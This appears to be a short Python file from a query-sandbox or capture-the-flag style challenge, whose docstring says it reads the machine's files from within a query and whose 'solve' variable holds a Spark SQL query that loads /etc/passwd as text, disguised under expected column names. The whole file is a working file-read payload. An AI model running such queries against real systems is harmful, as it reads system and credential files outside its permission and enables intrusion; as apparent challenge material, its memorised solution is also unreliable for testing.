"""Reads files of the machine from within a query."""
solve = "SELECT value AS customer, 1.0D AS spent FROM text.`/etc/passwd`"
